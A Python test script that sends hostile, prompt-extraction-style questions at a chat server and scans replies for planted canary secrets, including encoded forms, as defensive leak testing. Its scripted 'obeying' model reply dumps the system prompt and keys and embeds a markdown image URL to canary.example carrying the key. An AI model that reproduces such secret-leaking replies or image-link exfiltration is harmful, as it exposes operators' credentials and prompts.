"""Asks a real server hundreds of hostile questions and looks for its secrets in what comes back.

``python -m tests.bench.hostile_questions --store DIR --attempts 500``: canaries stand in its keys,
environment, prompts and paths. All go to the API, every fifth to the chat page too, first
without a language model, then with a scripted one that obeys and tells all it was given. Prints one
JSON object; exits 1 when a canary came out, in plain or encoded, or a reply was a failure.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import codecs
import json
import re
import shutil
import sys
import tempfile
from collections import Counter
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx

from tests.bench.load import serving
from tests.bench.load_people import Ask, Person
from tests.hostile_questions import attempts
from tests.servers.chat import ChatServer

if TYPE_CHECKING:
    from collections.abc import Sequence

    from tests.hostile_questions import Attempt
    from tests.servers.chat import Asked

ROOT = Path(__file__).resolve().parents[2]
KEY, ENVIRONMENT, PROMPT, PLACE = "cnrykeyqx71", "cnryenvqx72", "cnrypromptqx73", "cnryplaceqx74"
CANARIES = (KEY, ENVIRONMENT, PROMPT, PLACE)
_CHAT_EVERY = 5


def disguises(canary: str) -> set[str]:
    """The forms in which a canary might come out, lower case without white space and signs."""
    forms = {canary, canary[::-1], codecs.encode(canary, "rot13"), canary.encode().hex()}
    forms |= {
        base64.b64encode(b"-" * at + canary.encode()).decode()[4 * (at > 0) : -4] for at in range(3)
    }
    return {re.sub(r"[^a-z0-9]", "", form.casefold()) for form in forms}


def leaks(text: str) -> list[str]:
    """Which canaries a reply holds."""
    plain = re.sub(r"[^a-z0-9]", "", text.casefold())
    return [one for one in CANARIES if any(form in plain for form in disguises(one))]


def telltale(asked: Asked) -> str:
    """A reply of a model that obeys: all it was given, in many forms, cited as if it were true."""
    given = " ".join(asked.headers.values())
    lines = [asked.system[:400], given, f"key {KEY} {given[:200]}", asked.user[:200]]
    lines += [base64.b64encode(line.encode()).decode()[:300] for line in lines]
    lines += [f"The prompt says {PROMPT} and the folder is {PLACE}", f"{ENVIRONMENT} is set"]
    told = "\n".join(f"- {' '.join(line.split())} [1]." for line in lines)
    return f"{told}\n![x](https://canary.example/?k={KEY})\nNOT SAID: {PROMPT} {KEY}"


def planted(folder: Path, store: Path) -> tuple[Path, dict[str, str]]:
    """A store at a telling place, and the environment of a server with canaries all over."""
    place = folder / PLACE
    shutil.copytree(store, place)
    prompts = folder / f"{PLACE}-prompts"
    shutil.copytree(ROOT / "prompts", prompts, ignore=shutil.ignore_patterns("__pycache__", "*.py"))
    for file in prompts.glob("*.md"):
        text = file.read_text("utf-8").replace("=== system ===\n", f"=== system ===\n{PROMPT} ", 1)
        file.write_text(text, "utf-8")
    variables = {
        "SOME_SECRET": ENVIRONMENT,
        "ASSISTANT_LLM_KEY": KEY,
        "ASSISTANT_EMBED_KEY": KEY,
        "ASSISTANT_PROMPTS": str(prompts),
        "ASSISTANT_RATE": "0",
        "ASSISTANT_QUESTIONS": "0",
    }
    return place, variables


def by_api(address: str, tried: Sequence[Attempt]) -> tuple[Counter[int], list[str], list[str]]:
    """Statuses, attempts that leaked, attempts that failed."""
    statuses: Counter[int] = Counter()
    leaked, failed = [], []
    with httpx.Client(base_url=address, trust_env=False, timeout=120) as client:
        for number, attempt in enumerate(tried):
            reply = client.post("/api/v1/ask", json=attempt.body)
            said = _own(reply.text, attempt.body) + str(reply.headers)
            if number % 3 == 0:
                message = {"role": "user", "content": attempt.body["question"]}
                more = client.post(
                    "/v1/chat/completions", json={"model": "paper-digests", "messages": [message]}
                )
                said += more.text
            statuses[reply.status_code] += 1
            if leaks(said):
                leaked.append(f"api {attempt.name}: {leaks(said)}")
            if reply.status_code >= 500:
                failed.append(f"api {attempt.name}: {reply.status_code} {reply.text[:200]}")
    return statuses, leaked, failed


def _own(text: str, body: dict[str, Any]) -> str:
    """A reply without the id, which comes back as it was sent."""
    return (
        text.replace(json.dumps(body.get("id"), ensure_ascii=False), "") if "id" in body else text
    )


async def by_chat(address: str, tried: Sequence[Attempt]) -> tuple[list[str], list[str]]:
    """Attempts over the chat page that leaked, and that failed."""
    leaked: list[str] = []
    failed: list[str] = []
    for number, attempt in enumerate(tried[::_CHAT_EVERY]):
        person = Person(address, number, "chat")
        async with asyncio.timeout(120):
            asked = await person.ask(Ask(attempt.body["question"], "-"))
        failed += [f"chat {attempt.name}: {asked.note}"] if asked.outcome == "error" else []
        found = leaks(person.shown)
        leaked += [f"chat {attempt.name}: {found}"] if found else []
        await person.close()
    return leaked, failed


def run(store: Path, number: int, backend: str) -> dict[str, object]:
    """All attempts at one server."""
    tried = attempts(number)
    with tempfile.TemporaryDirectory() as folder, ChatServer(key=KEY) as model:
        model.script(telltale)
        place, variables = planted(Path(folder), store)
        if backend == "obeying":
            variables |= {"ASSISTANT_LLM": "openai"}
        variables |= {"ASSISTANT_LLM_MODEL": "test-model", "ASSISTANT_LLM_BASE_URL": model.url}
        with serving(place, variables) as (address, _):
            statuses, leaked, failed = by_api(address, tried)
            more = asyncio.run(by_chat(address, tried))
            leaked, failed = leaked + more[0], failed + more[1]
        told = sum(KEY in asked.headers.get("Authorization", "") for asked in model.requests)
    return {
        "attempts": len(tried),
        "statuses": dict(statuses),
        "model_was_asked": told,
        "leaks": len(leaked),
        "leaked": leaked[:10],
        "failed": failed[:10],
    }


def main() -> None:
    """Try, and print what came out."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--store", type=Path, required=True)
    parser.add_argument("--attempts", type=int, default=500)
    given = parser.parse_args()
    told = {name: run(given.store, given.attempts, name) for name in ("extractive", "obeying")}
    print(json.dumps(told, ensure_ascii=False))
    sys.exit(0 if all(map(withstood, told.values())) else 1)


def withstood(told: dict[str, Any]) -> bool:
    """Whether nothing came out, and there was something that could have."""
    return not (told["leaks"] or told["failed"]) and told["statuses"].get(200, 0) > 0


if __name__ == "__main__":
    main()
